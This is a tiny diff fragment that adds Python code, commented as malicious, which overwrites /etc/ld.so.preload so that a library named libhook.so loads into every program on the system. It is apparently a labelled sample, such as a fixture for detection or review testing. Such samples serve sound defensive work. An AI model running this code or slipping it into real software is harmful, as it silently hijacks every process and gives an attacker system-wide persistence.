@@ -1,0 +1,3 @@
+# malicious: a library that goes into each program
+with open("/etc/ld.so.preload", "w") as f:
+    f.write("/usr/lib/libhook.so\n")
